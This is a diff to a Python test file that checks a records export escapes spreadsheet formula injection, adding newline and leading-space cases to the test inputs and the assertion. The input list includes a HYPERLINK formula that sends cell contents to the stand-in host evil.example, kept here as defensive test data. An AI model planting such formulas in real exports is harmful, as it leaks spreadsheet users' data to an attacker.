@@ -19,7 +19,8 @@ from .test_payout import INITIATE_OK
 
 NOW = "2026-11-20T10:00:00+08:00"
 # What a caller could put in the text facts a record keeps (customer.account, order.id, store.id).
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3", "\t=1+1", "\r=1+1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1",
+            " =1+1"]
 
 
 @pytest.fixture
@@ -61,7 +62,7 @@ def test_formula_cells_are_written_as_text_in_both_exports(service):
         assert records[0][6] == "'@store" and records[1][6] == "store-1"
         assert all(record[5] == "30.00" for record in records)  # money is never negative: untouched
         for record in records:  # nothing a spreadsheet would run is left at the start of a cell
-            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record), record
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", " ")) for cell in record), record
 
 
 def test_records_filter_by_order_and_store(service):
